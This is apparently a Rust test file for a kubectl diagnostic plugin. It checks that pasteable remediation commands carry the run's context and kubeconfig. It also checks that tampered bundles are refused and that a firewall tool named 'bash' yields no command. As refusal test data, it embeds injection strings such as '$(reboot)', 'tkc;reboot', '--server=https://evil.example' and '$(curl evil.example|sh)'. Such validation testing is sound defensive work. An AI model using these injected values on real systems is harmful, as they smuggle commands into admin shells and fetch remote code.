//! The commands the plugin prints for an admin to paste cannot be steered (issue 37, item 10):
//! every one carries the run's `--context` and `--kubeconfig` (through the real kubectl,
//! against the fake Supervisor); a bundle whose names no live run could have (`$(…)`, `;`,
//! `--server=…`) is refused in one line, exit 2; a node that names its firewall tool `bash`
//! gets no command starting with it.

use crate::common;

use common::article::{CLUSTER, CP, NS};
use common::tarball::{entries, write_entries};
use common::*;

/// Every `kubectl …` command in `text` (one per occurrence, up to the next), but the prose
/// "re-run kubectl etcdnet diagnose", which names no cluster.
fn commands(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find("kubectl ") {
        let before = &rest[..at];
        let after = &rest[at..];
        let end = after[1..].find("kubectl ").map_or(after.len(), |e| e + 1);
        if !before.ends_with("re-run ") {
            out.push(&after[..end]);
        }
        rest = &after[end..];
    }
    out
}

/// A Supervisor of `remediation-armed` whose jumpbox finds every VM's peers on 2380 timing out.
fn cut() -> Env {
    let env = Env::new("remediation-armed", Workload::black_hole());
    env.script_jumpbox_pods_with(&CP, |_, ip| Some(section_2380_dropped(ip)));
    env
}

/// `--context X --kubeconfig Y` given: every command in the report (verdict, guard, findings)
/// and in the notes on stderr carries both, as one `--flag=value` word each.
#[test]
fn every_pasted_command_carries_the_run_context_and_kubeconfig() {
    let env = cut();
    let other = env.dir.path().join("other kubeconfig");
    env.supervisor
        .write_kubeconfig(&other, "sv admin", None)
        .unwrap();
    let kubeconfig = other.to_str().unwrap();
    let flags = format!("--context='sv admin' --kubeconfig='{kubeconfig}'");
    let run = env.kubectl(&[
        "diagnose",
        CLUSTER,
        "-n",
        NS,
        "--via",
        "jumpbox",
        "--api-timeout",
        "1s",
        "--context",
        "sv admin",
        "--kubeconfig",
        kubeconfig,
        "--keep-pods",
        "-o",
        "json",
    ]);
    run.expect_code(1);
    let r = run.diagnose_report();
    let g = r.remediation_guard.clone().expect("a guard");
    let mut texts: Vec<String> = vec![g.pause_command.clone(), g.unpause_command.clone()];
    texts.extend(r.verdict.evidence.iter().cloned());
    texts.extend(r.verdict.next_steps.iter().cloned());
    texts.extend(r.verdict.notes.iter().cloned());
    texts.extend(r.findings.iter().map(|f| f.message.clone()));
    texts.extend(run.stderr.lines().map(String::from));
    let all: Vec<&str> = texts.iter().flat_map(|t| commands(t)).collect();
    // The guard's two, the kept pod's cleanup, the workload API finding's diagnose at least.
    assert!(all.len() >= 4, "{all:#?}");
    for c in &all {
        assert!(c.contains(&flags), "{c}\n(every command: {all:#?})");
    }
    assert!(
        run.stderr.contains(&format!(
            "remove them with: kubectl etcdnet cleanup -n ns-prod {flags}"
        )),
        "{}",
        run.stderr
    );
    // Pasted, the commands run through the real kubectl against the same fake and pause, then
    // unpause, exactly the Cluster (whatever KUBECONFIG says: none here).
    for (command, paused) in [(&g.pause_command, true), (&g.unpause_command, false)] {
        let words = shlex::split(command).unwrap();
        assert_eq!(words[0], "kubectl");
        assert!(
            words.contains(&"--context=sv admin".to_string()),
            "{words:?}"
        );
        assert!(
            words.contains(&format!("--kubeconfig={kubeconfig}")),
            "{words:?}"
        );
        let out = std::process::Command::new(KUBECTL)
            .args(&words[1..])
            .env_remove("KUBECONFIG")
            .env("HOME", env.dir.path())
            .output()
            .expect("kubectl runs");
        assert!(out.status.success(), "{command}: {out:?}");
        let cluster = env
            .supervisor
            .objects("cluster.x-k8s.io", "clusters")
            .into_iter()
            .find(|c| c["metadata"]["name"] == CLUSTER)
            .unwrap();
        assert_eq!(cluster["spec"]["paused"], paused, "{command}");
    }
}

/// A bundle of a cut cluster, then `edit` applied to its entries, then `analyse`d.
fn doctored(edit: impl Fn(&str, &mut serde_json::Value)) -> Run {
    let env = cut();
    let bundle = env.dir.path().join("b.tar.gz");
    crate::bundle::diagnose(&env, &bundle, &["-o", "json"]).expect_code(1);
    let changed: Vec<(String, Vec<u8>)> = entries(&bundle)
        .into_iter()
        .map(|(p, bytes)| {
            if !p.ends_with(".json") {
                return (p, bytes);
            }
            let before: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
            let mut v = before.clone();
            edit(&p, &mut v);
            // Only what was edited is written again: a node's document is read back as the
            // bytes its probe printed.
            if v == before {
                (p, bytes)
            } else {
                (p, serde_json::to_vec(&v).unwrap())
            }
        })
        .collect();
    write_entries(&bundle, &changed);
    crate::bundle::analyse_offline(&env, &bundle, &[])
}

/// Refused in one line, exit 2 (a bundle that is not readable), and nothing on stdout.
fn refused(run: &Run, why: &str) {
    run.expect_code(2);
    assert!(run.stdout.is_empty(), "{}", run.stdout);
    let lines: Vec<&str> = run.stderr.lines().collect();
    assert_eq!(lines.len(), 1, "{}", run.stderr);
    assert!(lines[0].starts_with("error: bundle "), "{}", run.stderr);
    assert!(lines[0].contains(why), "{why}: {}", run.stderr);
}

#[test]
fn a_bundle_with_names_no_live_run_could_have_is_refused() {
    for cluster in ["--server=https://evil.example", "tkc;reboot", "$(reboot)"] {
        let run = doctored(|p, v| {
            if p == "manifest.json" {
                v["clusters"][0]["cluster"] = cluster.into();
            }
        });
        refused(&run, "is not a valid name");
    }
    let run = doctored(|p, v| {
        if p == "manifest.json" {
            v["clusters"][0]["namespace"] = "ns-prod;reboot".into();
        }
    });
    refused(&run, "namespace \"ns-prod;reboot\" is not a valid name");
    // An object's own name (the KCP's, which the next steps name).
    let run = doctored(|_, v| {
        if v["kind"] == "KubeadmControlPlane" {
            v["metadata"]["name"] = "$(curl evil.example|sh)".into();
        }
    });
    refused(&run, "is not a name the API server accepts");
    let run = doctored(|_, v| {
        if v["kind"] == "MachineHealthCheck" {
            v["metadata"]["namespace"] = "--server=https://evil.example".into();
        }
    });
    refused(&run, "metadata.namespace");
}

/// The same bundle unchanged is read, and its commands are the live run's.
#[test]
fn an_undoctored_bundle_prints_the_live_commands() {
    let run = doctored(|_, _| {});
    run.expect_code(1);
    assert!(
        run.stdout.contains(
            r#"kubectl patch clusters.cluster.x-k8s.io tkc-prod -n ns-prod --type merge -p '{"spec":{"paused":true}}' --context=supervisor"#
        ),
        "{}",
        run.stdout
    );
}

/// One VM's section with its peers on 2380 timing out and its own nft ruleset, read by a tool
/// the node calls `tool`, counting the drops during the checks.
fn section_with_firewall(ip: &str, tool: &str) -> String {
    let peers: Vec<&str> = ["198.18.0.11", "198.18.0.12", "198.18.0.13"]
        .into_iter()
        .filter(|p| *p != ip)
        .collect();
    let ruleset = |n: u32| {
        format!(
            "table inet filter {{ # handle 1\n\tchain input {{ # handle 1\n\t\ttype filter hook input priority filter; policy accept;\n\t\tip saddr {{ {} }} tcp dport 2380 counter packets {n} bytes {} drop # handle 8\n\t}}\n}}\n",
            peers.join(", "),
            n * 60
        )
    };
    let read = |n: u32| {
        serde_json::json!({"tool": tool, "outcome": "Ok", "text": ruleset(n),
            "lines": 6, "kept": 6, "cut": 0})
    };
    let firewall = serde_json::json!({"before": [read(0)], "after": [read(4)]});
    // Where probe.sh prints it: after the checks, before the errors.
    section_2380_dropped(ip).replacen(
        "\"errors\":",
        &format!("\"firewall\":{firewall},\"errors\":"),
        1,
    )
}

/// A node names the program its rules were read with: `bash` never starts a command; the step
/// names the rule and says why no command is given. `nft` gets its command.
#[test]
fn a_node_firewall_tool_picks_no_program() {
    for (tool, program) in [
        ("bash", None),
        ("nft", Some("nft -a list chain inet filter input")),
    ] {
        let env = Env::new(common::article::SET, Workload::black_hole());
        env.script_jumpbox_pods_with(&CP, move |i, ip| {
            Some(if i == 1 {
                section_with_firewall(ip, tool)
            } else {
                section_2380_dropped(ip)
            })
        });
        let run = env.diagnose_via_jumpbox(&["-o", "json"]);
        run.expect_code(1);
        let r = run.diagnose_report();
        let step = r
            .verdict
            .next_steps
            .iter()
            .find(|s| s.contains("own firewall counted the dropped packets"))
            .unwrap_or_else(|| panic!("{tool}: {:#?}", r.verdict));
        match program {
            None => {
                assert!(
                    step.contains("no command: the node named its firewall tool \"bash\""),
                    "{step}"
                );
                assert!(!run.stdout.contains("`bash"), "{}", run.stdout);
                let table = env.diagnose_via_jumpbox(&[]);
                assert!(
                    !table
                        .stdout
                        .lines()
                        .any(|l| l.trim_start().starts_with("bash")
                            || l.contains("`bash")
                            || l.contains(": bash -t")),
                    "{}",
                    table.stdout
                );
            }
            Some(p) => assert!(step.contains(&format!("`{p}`")), "{step}"),
        }
    }
}
